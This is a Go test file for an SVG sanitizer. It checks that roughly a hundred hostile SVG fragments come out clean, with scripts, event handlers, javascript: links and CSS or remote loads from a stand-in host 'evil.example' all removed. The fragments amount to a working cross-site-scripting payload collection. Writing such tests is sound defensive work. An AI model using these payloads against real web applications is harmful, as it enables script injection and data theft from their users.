package media

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// hostile are drawings that run or load something in some browser, each
// without its root: published work on script in SVG (Heiderich and others,
// 2011; the OWASP and html5sec collections) and what follows from SVG 2, CSS
// and SMIL.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<script href="https://evil.example/x.js"/>`,
	`<script xlink:href="data:text/javascript,alert(1)"/>`,
	`<SCRIPT>alert(1)</SCRIPT>`,
	`<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>`,
	`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`,
	`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
	`<g><g><script type="text/ecmascript"><![CDATA[alert(1)]]></script></g></g>`,
	`<g onload="alert(1)"/>`,
	`<g ONLOAD="alert(1)"/>`,
	`<g onfocusin="alert(1)" tabindex="0"/>`,
	`<animate onbegin="alert(1)" attributeName="x" dur="1s"/>`,
	`<set onend="alert(1)" attributeName="x"/>`,
	`<g ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events" ev:handler="#x"/>`,
	`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`,
	`<listener event="load" handler="#y"/>`,
	`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
	`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>`,
	`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/>`,
	`<embed xmlns="http://www.w3.org/1999/xhtml" src="x.swf"/>`,
	`<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp3" onerror="alert(1)"/>`,
	`<a href="javascript:alert(1)"><text>x</text></a>`,
	`<a xlink:href="JaVaScRiPt:alert(1)"><text>x</text></a>`,
	`<a href="&#106;avascript&#58;alert(1)"><text>x</text></a>`,
	`<a href="java&#10;script:alert(1)"><text>x</text></a>`,
	`<a href="https://evil.example/" target="_top" ping="https://evil.example/p"><text>x</text></a>`,
	`<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>x</text></a>`,
	`<a href="#x"><animate attributeName="href" values="javascript:alert(1)"/></a>`,
	`<a href="#x"><set attributeName="xlink:href" to="javascript:alert(1)"/></a>`,
	`<a href="#x"><set attributeName=" href" to="javascript:alert(1)"/></a>`,
	`<animate href="#a" attributeName="HREF" from="javascript:alert(1)" to="&amp;"/>`,
	`<set attributeName="onmouseover" to="alert(1)"/>`,
	`<set attributeName="style" to="background:url(https://evil.example/)"/>`,
	`<animate attributeName="fill" values="red;url(https://evil.example/x#y)"/>`,
	`<animate xlink:href="https://evil.example/x.svg#a" attributeName="x"/>`,
	`<use href="https://evil.example/x.svg#a"/>`,
	`<use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>`,
	`<use href="other.svg#a"/>`,
	`<use href="//evil.example/x.svg#a"/>`,
	`<image href="https://evil.example/pixel.png"/>`,
	`<image xlink:href="javascript:alert(1)"/>`,
	`<image href="data:image/svg+xml,&lt;svg onload='alert(1)'/>"/>`,
	`<image href="data:text/html;base64,PHNjcmlwdD4="/>`,
	`<image href="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="/>`,
	`<image href="data:image/png,rawbytes"/>`,
	`<image href="data:image/png;charset=x;base64,AAAA"/>`,
	`<feImage href="https://evil.example/x.png"/>`,
	`<filter id="f"><feImage xlink:href="#x"/></filter>`,
	`<rect fill="url(https://evil.example/x.svg#a)"/>`,
	`<rect fill="url(&quot;//evil.example/#a&quot;)"/>`,
	`<rect fill="URL( https://evil.example )"/>`,
	`<rect fill="u\72l(https://evil.example)"/>`,
	`<rect filter="url(data:image/svg+xml,x#f)"/>`,
	`<rect clip-path="url(#a) url(https://evil.example)"/>`,
	`<rect mask="/**/url/**/(https://evil.example)"/>`,
	`<rect cursor="url(https://evil.example/c.cur), auto"/>`,
	`<rect fill="src('https://evil.example')"/>`,
	`<rect style="background:url(https://evil.example)"/>`,
	`<rect style="fill:red;background-image:image-set('https://evil.example/a.png' 1x)"/>`,
	`<rect style="width:expression(alert(1))"/>`,
	`<rect style="width:exp/**/ression(alert(1))"/>`,
	`<rect style="-moz-binding:url(#x)"/>`,
	`<rect style="behavior:url(#x)"/>`,
	`<rect style="--x:url(https://evil.example);fill:var(--x)"/>`,
	`<rect style="\66 ill:url(https://evil.example)"/>`,
	`<rect style="fill:'}*{background:url(https://evil.example)}"/>`,
	`<rect style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')"/>`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<style>@import url(https://evil.example/x.css);</style>`,
	`<style>@imp\6frt "https://evil.example/x.css";</style>`,
	`<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>`,
	`<style>.a{background:url(https://evil.example)}</style>`,
	`<style>.a[x^="a"]{background:url("//evil.example/a")}</style>`,
	`<style>/* */*{x:expression(alert(1))}</style>`,
	`<style>@media all{@import "x";.a{fill:url(http://evil.example)}}</style>`,
	`<style>@supports (a:url(http://evil.example)){.a{fill:red}}</style>`,
	`<style>.a{fill:red;.b{background:url(http://evil.example)}}</style>`,
	`<style>.a{content:"&lt;/style>&lt;script>alert(1)&lt;/script>"}</style>`,
	`<style><![CDATA[</style><script>alert(1)</script>]]></style>`,
	`<style>.a{fill:"` + "\n" + `;background:url(https://evil.example)}</style>`,
	`<style>.a{fill:red/*</style><style>*/;background:url(https://evil.example)}</style>`,
	`<style type="text/javascript">alert(1)</style>`,
	`<style><script>alert(1)</script>.a{fill:red}</style>`,
	`<g xml:base="https://evil.example/"><use href="#a"/></g>`,
	`<title><script>alert(1)</script></title>`,
	`<title>&lt;script>alert(1)&lt;/script></title>`,
	`<desc><h:b xmlns:h="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</h:b></desc>`,
	`<metadata><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></metadata>`,
	`<text aria-label="&quot; onload=&quot;alert(1)">x</text>`,
	`<text id="&lt;script>alert(1)&lt;/script>">x</text>`,
	`<path d="M0 0&quot; onload=&quot;alert(1)"/>`,
	`<font><font-face><font-face-src><font-face-uri href="https://evil.example/f.svg"/></font-face-src></font-face></font>`,
	`<color-profile xlink:href="https://evil.example/p.icc"/>`,
	`<tref xlink:href="https://evil.example/t.svg#t"/>`,
	`<textPath href="https://evil.example/t.svg#t">x</textPath>`,
	`<mpath href="https://evil.example/t.svg#t"/>`,
	`<pattern href="https://evil.example/t.svg#t"/>`,
	`<linearGradient xlink:href="https://evil.example/t.svg#t"/>`,
	`<cursor xlink:href="https://evil.example/c.png"/>`,
	`<discard begin="0s"/>`,
	`<html:link xmlns:html="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/>`,
	`<html:meta xmlns:html="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>`,
	`<html:base xmlns:html="http://www.w3.org/1999/xhtml" href="https://evil.example"/>`,
	`<x:g xmlns:x="http://www.w3.org/2000/svg" x:onload="alert(1)" xlink:actuate="onLoad"/>`,
	`<g xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"/>`,
	`<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>`,
	`<!-- --><!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<g><![CDATA[<script>alert(1)</script>]]></g>`,
}

func TestHostileSVG(t *testing.T) {
	for _, inside := range hostile {
		for _, root := range []string{
			`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>`,
			`<svg>%s</svg>`,
			`<?xml version="1.0"?><p:svg xmlns:p="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/2000/svg" onload="alert(1)" xml:base="http://evil.example">%s</p:svg>`,
		} {
			in := fmt.Sprintf(root, inside)
			c, _ := checkContract(t, "a.svg", []byte(in))
			if c.Bytes == nil {
				t.Errorf("%s: refused, where the rest of the drawing could be kept", in)
				continue
			}
			strict(t, c.Bytes)
			if bytes.Contains(c.Bytes, []byte("evil.example")) || bytes.Contains(c.Bytes, []byte("<script")) {
				t.Errorf("%s became %s", in, c.Bytes)
			}
			again(t, "a.svg", c)
		}
	}
	if len(hostile) < 40 {
		t.Errorf("only %d cases", len(hostile))
	}
}

// A hostile drawing within data: is none of the pictures that may stand there.
func TestHostileData(t *testing.T) {
	svg := base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`))
	for _, typ := range []string{"image/svg+xml", "image/png", "image/jpeg", "text/html", ""} {
		c, ids := clean("a.svg", []byte(svgHead+`<image href="data:`+typ+`;base64,`+svg+`"/></svg>`))
		if string(c.Bytes) != svgHead+"</svg>" && string(c.Bytes) != strings.TrimSuffix(svgHead, ">")+"/>" || len(ids) != 1 {
			t.Errorf("%s: %s %v", typ, c.Bytes, ids)
		}
	}
}
